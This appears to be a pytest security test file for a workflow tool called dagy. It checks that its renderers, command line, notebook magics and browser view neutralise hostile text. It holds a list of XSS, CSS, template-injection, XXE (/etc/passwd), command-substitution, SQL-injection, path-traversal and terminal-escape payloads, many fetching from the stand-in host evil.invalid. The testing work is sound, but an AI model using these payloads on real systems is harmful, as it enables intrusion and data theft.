"""Text that would act rather than show, in every name, line, error and result, through every renderer: none of it acts.

Each payload would set `window.pwned`, fetch from `evil.invalid`, or move a terminal's cursor.
"""

from __future__ import annotations

import ast
import json
import re
import sys
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import nbformat
import pytest
from playwright.sync_api import Page

from dagy.artifact import read_source
from dagy.cli import app
from dagy.cli.app import ExitCode
from dagy.drawing import RunStill, TaskStill, dot, flow_html, run_html, svg, text_tree
from dagy.errors import DagyError
from dagy.spec import FlowSpec, FromTask, TaskOptions, TaskSpec
from dagy.states import State, completed, failed
from dagy_nb.previews import preview_of, sendable, still_previews

from ..browser.lab import Browser
from ..browser.page import ViewPage, run_of, task
from .conftest import NotebookShell

ACT = "window.pwned=1"
AWAY = "http://evil.invalid/x"

MARKUP = [
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"<SCRIPT SRC={AWAY}></SCRIPT>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script\x20type='text/javascript'>{ACT};</script >",
    f"<img src=x onerror={ACT}>",
    f"<img src=`x`onerror={ACT}>",
    f"<img/src=x/onerror={ACT}//",
    f'"><img src=x onerror={ACT}>',
    f"'><img src=x onerror={ACT}>",
    f'" onmouseover="{ACT}" x="',
    f"' autofocus onfocus='{ACT}",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={ACT}>#x'/></svg>",
    f"<svg><foreignObject><body onload={ACT}></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{ACT}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<iframe src='javascript:{ACT}'></iframe>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
    f"<embed src='{AWAY}'>",
    f"<img src='{AWAY}'>",
    f"<img srcset='{AWAY} 2x'>",
    f"<p style='background:url({AWAY})'>x</p>",
    f"<table background='{AWAY}'><tr><td>x</table>",
    f"<a href='#' ping='{AWAY}'>x</a>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<base href='{AWAY}/'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><input type=submit autofocus></form>",
    f"<details open ontoggle={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<body onload={ACT}>",
    f"<marquee onstart={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<template><script>{ACT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<textarea></textarea><script>{ACT}</script>",
    f"</textarea></title></style><img src=x onerror={ACT}>",
    f"</pre></details></td></table><script>{ACT}</script>",
    f"<a href='javascript:{ACT}'>x</a>",
    f"<a href=' &#1;java&Tab;script&colon;{ACT}'>x</a>",
    f"<!--><script>{ACT}</script>-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"]]><script>{ACT}</script>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{AWAY}'?>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"＜script＞{ACT}＜/script＞",
]
STYLE = [
    f"</style><style>*{{background:url({AWAY})}}</style>",
    f"x;background:url({AWAY});color:red",
    f"expression({ACT})",
    f"@import '{AWAY}';",
    "}*{display:none}",
]
TEMPLATE = [
    "{{7*7}}{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "<%= system('touch canary') %>",
    "{0.__class__.__init__.__globals__}",
    "%(x)s %s %n %d",
    "$(touch canary) `touch canary`",
    "\\');window.pwned=1;//",
    '\\");window.pwned=1;//',
    "*/window.pwned=1;/*",
    "__proto__",
    "constructor",
]
TEXT = [
    f"[x](javascript:{ACT}) ![x]({AWAY})",
    f"$\\href{{javascript:{ACT}}}{{x}}$",
    "# heading\n\n- list\n\n```\ncode",
    '"];x[URL="javascript:window.pwned=1",label="',
    "<<TABLE><TR><TD><IMG SRC='/etc/passwd'/></TD></TR></TABLE>>",
    "\\N\\G\\L\\l\\r",
    "a\u2028window.pwned=1\u2029b",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b]0;a new title\x07",
    "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;bmFzdHk=\x07",
    "\x1bP+q544e\x1b\\ \x1b[6n \x9b31m \x90x\x9c",
    "over\rwritten\b\b\b\x7f",
    "null\0\x01\x02\x05\x0e\x0f\x18",
    "half \ud83d and \udc00 of one",
    "\ufffe\uffff\U0010ffff\U000e0041",
    "a" * 20_000,
    "Z" + "\u0300" * 2_000,
    "\n" * 500 + "far below",
    "'; drop table runs; --",
    "../../../etc/passwd",
    "error: all is well\ndone: 0",
]
PAYLOADS = [*MARKUP, *STYLE, *TEMPLATE, *TEXT]

ENDS_LINES = re.compile(r"[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")


def short(payload: str) -> str:
    return payload.encode("ascii", "backslashreplace").decode()[:40]


everything = pytest.mark.parametrize("payload", PAYLOADS, ids=[f"{n}" for n, _ in enumerate(PAYLOADS)])


def test_there_are_enough_of_them_and_no_two_alike() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 60


# ---- what is made of a text


def flow(payload: str) -> FlowSpec:
    """A flow in which everything that is the user's is `payload`."""
    options = TaskOptions(executor=None)
    first = TaskSpec("a", payload, f"m:{payload}", description=payload, group=(payload,), options=options)
    second = TaskSpec("b", f"{payload} 2", "m:f", {payload: FromTask("a")}, group=(payload,))
    return FlowSpec(payload, description=payload, tasks=(first, second))


def still(payload: str, *, acts: bool = True) -> RunStill:
    spec = flow(payload)
    previews = {
        "a": [preview_of({"text/html": payload if acts else "x"}), preview_of({"text/plain": payload})],
        "b": [preview_of({"image/svg+xml": f"<svg>{payload}</svg>"}), preview_of({"image/png": payload})],
    }
    shown = still_previews({task: [each for each in found if each] for task, found in previews.items()})

    def task(name: str, state: State) -> TaskStill:
        return TaskStill(name, spec.task(name).name, state, 1, 1.0, payload, payload, shown.get(name, ""))

    tasks = (task("a", completed()), task("b", failed(payload)))
    return RunStill(spec, payload, failed(payload), 1.0, tasks, payload)


class Parsed(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: set[tuple[str, str]] = set()
        self.values: list[str] = []
        self.text: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.values += [value or "" for name, value in attrs if name in ("src", "href", "style", "action")]

    def handle_comment(self, data: str) -> None:
        self.elements.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.elements.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.elements.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.elements.append(f"<![{data}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


OURS = Parsed(run_html(still("plain")) + flow_html(flow("plain")))


def acting(text: str) -> set[str]:
    """The characters of `text`, other than line breaks, that would act in a terminal or turn what is read."""
    turns = ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
    return {
        each
        for each in text
        if (unicodedata.category(each) in ("Cc", "Cs") and each not in "\n\t")
        or unicodedata.bidirectional(each) in turns
    }


@everything
def test_a_drawing_has_no_element_or_attribute_more(payload: str) -> None:
    plain, drawn = (
        ElementTree.fromstring(svg(flow(each), {"a": completed(), "b": failed(each)}, details={"a": each}))
        for each in ("plain", payload)
    )
    assert {each.tag for each in drawn.iter()} == {each.tag for each in plain.iter()}
    assert {name for each in drawn.iter() for name in each.attrib} == {
        name for each in plain.iter() for name in each.attrib
    }
    values = [value for each in drawn.iter() for name, value in each.attrib.items() if name in ("href", "style")]
    assert not any("evil.invalid" in value for value in values)


@everything
def test_a_still_has_no_element_or_attribute_of_the_texts(payload: str) -> None:
    page = Parsed(run_html(still(payload, acts=False)) + flow_html(flow(payload)))
    assert set(page.elements) <= set(OURS.elements)
    assert page.attributes <= OURS.attributes
    assert all(not value.startswith(("http", "java")) and "evil.invalid" not in value for value in page.values)
    assert acting("".join(page.text)) == set()


@everything
def test_a_shown_result_keeps_what_shows_and_loses_what_acts(payload: str) -> None:
    preview = preview_of({"text/html": payload})
    page = Parsed(preview.content if preview else "")
    assert not {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "base"} & {
        *page.elements
    }
    assert not {"link", "meta", "template", "body", "video", "source"} & {*page.elements}
    assert not [
        name for _, name in page.attributes if name.startswith(("on", "style", "srcset", "formaction", "xlink"))
    ]
    assert not [value for value in page.values if "javascript" in value.lower().replace("\t", "")]


@everything
def test_a_tree_and_a_summary_are_lines_of_plain_text(payload: str) -> None:
    tree = text_tree(flow(payload), {"a": completed(), "b": failed(payload)}, details={"b": payload})
    assert acting(tree) == set()
    assert len(tree.splitlines()) == len(text_tree(flow("plain"), {"a": completed()}).splitlines())


@everything
def test_source_for_graphviz_has_the_same_statements(payload: str) -> None:
    def statements(source: str) -> list[str]:
        return re.sub(r'"(?:[^"\\]|\\.)*"', '""', source).splitlines()

    assert acting(dot(flow(payload))) == set()
    names = [re.sub(r"label=\S+", "label", each) for each in statements(dot(flow(payload)))]
    plain = [re.sub(r"label=\S+", "label", each) for each in statements(dot(flow("plain text")))]
    assert names == plain


# ---- what is made of a notebook's text

WRITTEN = """\
from dagy import flow, task

TEXT = {text!r}

@task(name={name!r}, description=TEXT)
def speak(word: str = TEXT):
    print(word)
    return word

@task
def fail(word):
    raise ValueError(word)

@flow(name={name!r}, description=TEXT)
def hostile(word: str = TEXT):
    fail(speak(word))
"""


def written(payload: str, name: str) -> str:
    # Halves of surrogate pairs come out of an escape: no file of UTF-8 holds them.
    return WRITTEN.format(text=payload, name=name)


@pytest.mark.program  # ruff, for each
@everything
def test_a_name_and_a_description_stay_in_their_strings(payload: str, tmp_path: Path) -> None:
    words = json.dumps(ENDS_LINES.sub(" ", payload).replace("\0", "")[:200]).replace("`", "\\`").replace("$", "\\$")
    quoted = "'" + ENDS_LINES.sub(" ", payload).replace("\0", "").replace("'", "'\"'\"'")[:200].rstrip("'\"") + "'"
    cells = [
        nbformat.v4.new_code_cell(f"%%dagy_task first --description {quoted}\nx = {payload!r}"),
        nbformat.v4.new_code_cell(f"%%dagy_task last --description {words}\ny = x"),
    ]
    path = tmp_path / "x.ipynb"
    path.write_text(json.dumps(nbformat.v4.new_notebook(cells=cells)))
    try:
        text = read_source(path).text
    except DagyError:  # a quote too many
        return
    assert [type(each).__name__ for each in ast.parse(text).body] == [
        "Expr", "ImportFrom", "FunctionDef", "FunctionDef", "FunctionDef", "If",
    ]  # fmt: skip
    called = {
        each.func.id
        for each in ast.walk(ast.parse(text))
        if isinstance(each, ast.Call) and isinstance(each.func, ast.Name)
    }
    assert called <= {"task", "flow", "first", "last", "print"}


@everything
def test_the_command_line_shows_it_and_does_not_obey_it(
    payload: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NO_COLOR", "1")
    for stream in (sys.stdout, sys.stderr):
        monkeypatch.setattr(stream, "isatty", lambda: True)
    name = payload.replace("/", "-")[:60] or "x"
    (tmp_path / "hostile_flow.py").write_text(written(payload, name), "utf-8")
    said = []
    for words in (
        ("draw", "hostile_flow.py"),
        ("run", "hostile_flow.py", "--param", f"word={payload}".replace("\0", "")),
        ("run", f"hostile_flow.py:{payload}"),
        ("runs", "list"),
        ("runs", "show", "latest"),
        ("logs", "latest"),
        ("logs", payload),
    ):
        code = app.run(words)
        captured = capsys.readouterr()
        out = captured.out
        for printed in (payload, payload.replace("\0", "")):  # by the task itself, on the terminal that it was given
            out = out.removeprefix(f"{printed}\n")
        said += [out, captured.err]
        assert code in ExitCode
    assert [each for each in said if acting(each)] == []
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize("payload", [each for each in PAYLOADS if len(each) < 200 and not ENDS_LINES.search(each)])
def test_a_cell_magic_answers_with_plain_text(payload: str, notebook: NotebookShell) -> None:
    quoted = "'" + payload.replace("'", "") + "'"
    for source in (
        f"%%dagy_task {quoted}\nx = 1",
        f"%%dagy_task x --description {quoted}\nx = 1",
        f"%%dagy_task x --{quoted}\nx = 1",
        f"%%dagy_flow {quoted}\nx",
        f"%dagy_run {quoted}",
        f"%dagy_dag {quoted}",
    ):
        ran = notebook.run(source)
        page = Parsed(ran.html)
        assert set(page.elements) <= {*OURS.elements, "code", "p", "ul", "li", "b", "em", "style"}
        assert not [name for _, name in page.attributes if name.startswith("on")]
        # IPython itself repeats a line that is no Python; what we say has no escapes.
        ours = [line for line in ran.text.splitlines() if "dagy" in line and "Cell In" not in line]
        assert not any("\x1b" in line or "\u202e" in line for line in ours if "UsageError" in line)
    assert not Path("canary").exists()


# ---- in a real browser, all at once


def view_of_all() -> dict[str, Any]:
    """The state of a live view with a task for each payload, which is all that the task says, and a form of them."""
    needs, tasks, about, form = {}, {}, {}, []
    for number, payload in enumerate(PAYLOADS):
        text = sendable(payload)
        name = f"{text[:200]} {number}"
        shown = [each.as_json() for kind in ("html", "plain") if (each := preview_of({f"text/{kind}": payload}))]
        head = {**task("FAILED"), "message": text, "error": text, "log": [["stdout", text, 1]], "shown": shown}
        if number % 2:
            head |= {"preview": shown[0] if shown else None}
        else:
            head |= {
                "items": {"count": 1, "done": 0, "failed": 1, "running": 0},
                "faults": [{"item": 0, "error": text}],
            }
        needs[name], tasks[name] = [*needs][-1:], head
        about[name] = {"cell": {"id": text, "label": text, "number": 1}, "description": text}
        field = {"name": text, "kind": "choice", "annotation": text, "required": True, "value": text, "choices": [text]}
        form.append(
            {**field, "kind": ("choice", "text", "json", "fixed")[number % 4], "description": text, "secret": False}
        )
    state = run_of(needs, state="FAILED", tasks=tasks, about=about, can_rerun=True, form=form)
    return {**state, "flow_name": "".join(map(sendable, MARKUP)), "run_id": sendable(MARKUP[8])}


@pytest.mark.browser
@pytest.mark.timeout(300)
def test_no_payload_acts_in_a_browser(browser: Browser, tmp_path: Path) -> None:
    pages = {
        "stills": "".join(run_html(still(each)) + flow_html(flow(each)) for each in PAYLOADS),
        "drawings": "".join(
            re.sub(r"<\?xml.*?\?>", "", svg(flow(each), {"a": failed(each)}, details={"a": each})) for each in PAYLOADS
        ),
        "converted": converted_by_nbconvert(),
    }
    before = len(browser.outside)
    asked: list[str] = []
    for name, markup in pages.items():
        path = tmp_path / f"{name}.html"
        path.write_text(f"<!doctype html><meta charset=utf-8><title>ours</title><body>{markup}", "utf-8")
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(dialog.message))
        page.goto(path.as_uri())
        hover_and_open(page)
        assert page.evaluate("typeof window.pwned") == "undefined"
        assert page.url == path.as_uri()
        page.close()
    assert [each for each in asked if not each.startswith(("file:///", "data:image/", "blob:"))] == []
    assert browser.outside[before:] == []


@pytest.mark.browser
@pytest.mark.timeout(300)
def test_no_payload_acts_in_the_live_view(browser: Browser) -> None:
    before = len(browser.outside)
    asked: list[str] = []
    with ViewPage(browser) as view:
        view.page.on("request", lambda request: asked.append(request.url))
        model = view.show(view_of_all())
        view.page.get_by_role("listbox", name="Tasks").focus()
        view.press("Home")
        opened = set()
        for _ in PAYLOADS:
            view.press("Enter")
            opened.add(view.panel.get_attribute("data-task"))
            view.page.evaluate(
                """() => {
                    for (const each of document.querySelectorAll(".dagy-panel *"))
                        each.dispatchEvent(new Event("mouseover"));
                }"""
            )
            view.press("Escape", "ArrowDown")
        assert len(opened) == len(PAYLOADS)
        hover_and_open(view.page)
        model.receive({"op": "refused", "about": "rerun", "problems": [{"field": None, "message": "".join(MARKUP)}]})
        model.remove("first")
        form = view.show({**view_of_all(), "is_form": True})
        problems = [{"field": sendable(each), "message": sendable(each)} for each in PAYLOADS]
        form.receive({"op": "refused", "about": "run", "problems": problems})
        hover_and_open(view.page)
        view.page.wait_for_timeout(300)  # for what was asked for to fail
        found = view.errors
        assert view.page.evaluate("typeof window.pwned") == "undefined"
        assert view.page.title() == "views"
        assert found == []
    assert [each for each in asked if not each.startswith(("data:image/", "blob:"))] == []
    assert browser.outside[before:] == []


def hover_and_open(page: Page) -> None:
    """Do what a reader does that makes scripts run: open what is folded, and move over and focus what there is."""
    page.evaluate(
        """() => {
            for (const each of document.querySelectorAll("details")) each.open = true;
            for (const each of document.querySelectorAll("body *"))
                for (const kind of ["mouseover", "focus", "toggle", "load", "error"])
                    each.dispatchEvent(new Event(kind));
        }"""
    )


def converted_by_nbconvert() -> str:
    """The outputs of a notebook in which every payload ran, as `jupyter nbconvert --to html` writes them."""
    from nbconvert import HTMLExporter

    cells = []
    for payload in PAYLOADS:
        data = {"text/html": sendable(run_html(still(payload))), "text/plain": sendable(text_tree(flow(payload)))}
        cells.append(nbformat.v4.new_code_cell("%dagy_run", outputs=[nbformat.v4.new_output("display_data", data)]))
    page, _ = HTMLExporter(template_name="basic").from_notebook_node(nbformat.v4.new_notebook(cells=cells))
    return str(page)
